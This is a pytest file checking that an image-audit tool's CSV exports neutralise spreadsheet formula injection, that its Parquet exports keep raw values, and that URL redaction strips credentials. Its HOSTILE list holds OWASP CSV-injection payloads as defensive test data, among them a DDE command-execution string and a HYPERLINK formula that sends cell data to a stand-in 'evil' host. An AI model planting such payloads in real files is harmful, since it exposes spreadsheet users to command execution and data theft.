"""Hostile catalog text in the exports: no CSV cell runs as a formula, the Parquet file keeps the raw values.

Catalog file names, sources, image ids and the metadata Copyleaks echoes (``issuedBy``...) come from
whoever uploaded the images; an analyst opens ``results.csv`` in a spreadsheet.
"""

from __future__ import annotations

import csv
import io
import math

import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from image_audit.reporting import exports
from image_audit.reporting.exports import EXPORT_COLUMNS, EXPORT_SCHEMA, redact_url
from tests.support.factories import MODEL
from tests.support.reports import R2

TEXT_COLUMNS = [field.name for field in EXPORT_SCHEMA if pa.types.is_string(field.type)]
#: What OWASP's "CSV Injection" page lists, and text the CSV must quote.
HOSTILE = [
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    '=HYPERLINK("http://evil/"&A1,"x")',
    "=1,2",
    "-5",
    'plain "quoted", text',
    "two\nlines",
    "x\r=1+1",
    "x\r\n=1+1",
    "'=already",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\x00")


def _hostile_rows() -> list[dict]:
    """One row per hostile value, in every text column at once, between ordinary rows."""
    rows = [{"scan_id": "ok-first", "issued_by": "C2PA signer", "last_error": "image too small"}]
    rows += [
        {name: value for name in TEXT_COLUMNS} | {"attempt": -1, "ai": -0.5, "human": 1.5}
        for value in HOSTILE
    ]
    rows.append({"scan_id": "ok-last", "source": "shop", "file_name": "a,b.png"})
    return rows


def _raw(column: str, value: str | None) -> str | None:
    return redact_url(value) if column == "url" else value


@pytest.fixture
def exported(tmp_path):
    """The hostile rows exported in two chunks; the CSV's text and the Parquet table."""
    rows = _hostile_rows()
    csv_file, parquet_file = tmp_path / "results.csv", tmp_path / "results.parquet"
    chunks = [_export_chunk(rows[:5]), _export_chunk(rows[5:])]
    assert exports.write_exports(chunks, csv_file, parquet_file) == len(rows)
    return rows, csv_file.read_bytes().decode("utf-8"), pq.read_table(parquet_file)


def test_no_csv_cell_starts_as_a_formula(exported):
    rows, text, _ = exported
    read = list(csv.reader(io.StringIO(text, newline="")))
    assert read[0] == EXPORT_COLUMNS and len(read) == len(rows) + 1  # no carriage return split a row
    for row, cells in zip(rows, read[1:], strict=True):
        by_name = dict(zip(EXPORT_COLUMNS, cells, strict=True))
        for name in TEXT_COLUMNS:
            raw = _raw(name, row.get(name, by_name[name]))
            cell = by_name[name]
            assert not cell.startswith(FORMULA_STARTS), (name, cell)
            assert cell == ("'" + raw if raw.startswith(FORMULA_STARTS) else raw), (name, cell)
        # numbers are not text: a negative one stays a number
        assert (by_name["attempt"], by_name["ai"]) == (
            ("-1", "-0.5") if row["scan_id"] in HOSTILE else ("1", "0.0")
        )


def test_neutralised_cells_are_quoted_with_their_quotes_doubled(exported):
    _, text, _ = exported
    line = next(line for line in text.split("\n") if line.startswith("\"'=HYPERLINK"))
    assert line.startswith('"\'=HYPERLINK(""http://evil/""&A1,""x"")",')
    assert '"\'\r=1",' in text and '"\'-5",' in text and '"\'@SUM(A1)",' in text
    assert '"x\r=1+1",' in text and '"x\r\n=1+1",' in text  # a carriage return inside a cell is quoted
    assert "'=already," in text  # a cell that is no formula is left as it is
    lines = text.split("\n")
    assert lines[1].startswith("img,ok-first,1,1,completed,human,0.0,1.0,") and '"a,b.png"' in lines[-2]


def test_parquet_keeps_the_raw_values(exported):
    rows, _, table = exported
    assert table.column_names == EXPORT_COLUMNS
    defaults = _export_chunk([{}])
    for name in TEXT_COLUMNS:
        expected = [_raw(name, row.get(name, defaults[name][0])) for row in rows]
        assert table[name].to_pylist() == expected, name
    assert table["attempt"].to_pylist()[1:-1] == [-1] * len(HOSTILE) and table["ai"][1].as_py() == -0.5


def test_ordinary_rows_read_as_before(tmp_path, exported):
    """A chunk with formulas is joined by Arrow compute, not written by Arrow's CSV writer; its ordinary
    rows read as that writer writes them."""
    rows, text, _ = exported
    alone = tmp_path / "alone.csv"
    chunks = [_export_chunk([rows[0]]), _export_chunk([rows[-1]])]
    assert exports.write_exports(chunks, alone, tmp_path / "alone.parquet") == 2
    header, first, last = alone.read_text().splitlines()
    assert text.startswith(f"{header}\n{first}\n") and text.endswith(f"\n{last}\n")


def test_redact_url_drops_credentials_and_query():
    assert redact_url("https://user:pw@cdn.example.com:8443/a/b.png?X-Amz-Signature=abc#f") == (
        "https://cdn.example.com:8443/a/b.png"
    )
    assert redact_url(None) is None


def test_plain_urls_are_redacted_as_urlsplit_does():
    urls = [
        "https://cdn.example.com/catalog/img-1.jpg?sig=abc",
        "https://cdn.example.com/a/b.png#frag?x",
        "https://cdn.example.com",
        "https://cdn.example.com?x=1",
        "https://cdn.example.com//double/slash.png",
        "http://Cdn.Example.com/Upper.png?x",  # a host urlsplit lower-cases
        "HTTPS://cdn.example.com/a.png",
        "https://user:pw@cdn.example.com:8443/a.png?X-Amz-Signature=abc",
        "https://cdn.example.com:0/a.png",
        "https://[::1]:8080/a.png",
        " https://cdn.example.com/lead.png",
        "https://cdn.example.com/tab\there.png",
        "https://cdn.example.com/space here.png?q",
        "ftp://files.example.com/pic.jpg",
        "not a url",
        "",
        None,
    ]
    assert exports._redacted_url_array(urls).to_pylist() == [redact_url(url) for url in urls]
    plain = ["https://cdn.example.com/catalog/img-1.jpg?sig=abc", None, "https://cdn.example.com/a.png"]
    assert exports._redacted_url_array(plain).to_pylist() == [redact_url(url) for url in plain]


def test_mask_pixels_sum_each_masks_lengths():
    masks = [None, "[]", "[5]", "[1, 2, 3]", "[1,2,3]", None, "[ 7 ]", "[100000, 1]"]
    assert exports.mask_pixels(masks) == [None, 0, 5, 6, 6, None, 7, 100001]
    assert exports.mask_pixels(masks, batch=2) == exports.mask_pixels(masks)
    # anything but a plain array of integers goes through json, as the database summed it
    assert exports.mask_pixels(["[1, 2]", "[1.5, 2]", "[-1, 4]"]) == [3, 3.5, 3]
    assert exports.mask_pixels([None, None]) == [None, None]


def _export_chunk(rows: list[dict]) -> dict[str, list]:
    """Rows as ``aggregates.iter_image_rows`` gives them (SQLite's timestamps as text)."""
    defaults = {
        "image_id": "img",
        "scan_id": "s",
        "attempt": 1,
        "attempts": 1,
        "state": "completed",
        "verdict": "human",
        "ai": 0.0,
        "human": 1.0,
        "mask_pixels": None,
        "mask_lengths": "[]",
        "width": 50,
        "height": 40,
        "model": MODEL,
        "source": "shop",
        "file_name": "a.png",
        "url": "https://cdn.example.com/a.png?sig=1",
        "ingested_at": "2026-11-20 23:30:00.000000",
        "ingest_day": "2026-11-20",
        "submitted_at": "2026-11-22 01:00:00.250000",
        "received_at": "2026-11-22 01:05:00",
        "actual_credits": 1,
        "expected_credits": 1,
        "sandbox": False,
        "issued_by": None,
        "app_or_device": None,
        "last_error": None,
        "run_id": R2,
    }
    full = [defaults | row for row in rows]
    return {name: [row[name] for row in full] for name in defaults}


def test_export_csv_is_what_pandas_wrote(tmp_path):
    """The CSV is written by Arrow (or ``csv`` when a value needs quoting) yet reads byte for byte as
    ``DataFrame.to_csv`` of the same rows wrote it before."""
    failed = {"state": "failed", "verdict": None, "ai": None, "human": None, "mask_lengths": None}
    no_result = {"width": None, "height": None, "received_at": None, "actual_credits": None}
    plain = _export_chunk(
        [
            {"scan_id": "s1", "ai": 1.0, "human": 0.0, "mask_lengths": "[2000]", "sandbox": True},
            {"scan_id": "s2", "ai": 0.1 + 0.2, "human": 1e-05, "mask_lengths": "[1, 2, 3]", "issued_by": "C"},
            {"scan_id": "s3", **failed, **no_result, "last_error": "gone"},
            {"scan_id": "s4", "url": "https://u:p@Host.example.com:8443/x.png?sig=2", "source": None},
        ]
    )
    quoted = _export_chunk(
        [
            {"scan_id": "s5", "last_error": 'bad, "quoted"\nreason', "file_name": "a,b.png"},
            {"scan_id": "s6", "ai": 0.5, "mask_lengths": "[1.5, 2]", "url": None},
        ]
    )
    stored = _export_chunk(  # rows whose mask_pixels was stored: their lengths are not read
        [
            {"scan_id": "s7", "mask_pixels": 1000, "mask_lengths": None},
            {"scan_id": "s8", "mask_pixels": 0, "mask_lengths": None},
        ]
    )
    csv_file, parquet_file = tmp_path / "r.csv", tmp_path / "r.parquet"
    assert exports.write_exports([plain, quoted, stored], csv_file, parquet_file) == 8
    frame = pd.read_parquet(parquet_file)
    assert list(frame.columns) == EXPORT_COLUMNS
    assert frame["mask_area"].tolist()[:2] == [1.0, 6 / 2000] and math.isnan(frame["mask_area"][2])
    assert frame["mask_area"].tolist()[5:] == [3.5 / 2000, 0.5, 0.0]
    assert frame["url"].tolist()[3] == "https://host.example.com:8443/x.png"
    for column in ("attempt", "attempts", "width", "height", "actual_credits", "expected_credits"):
        frame[column] = frame[column].astype("Int64")
    frame["sandbox"] = frame["sandbox"].astype("boolean")
    expected = frame.to_csv(index=False, date_format="%Y-%m-%dT%H:%M:%S.%fZ")
    assert csv_file.read_text() == expected
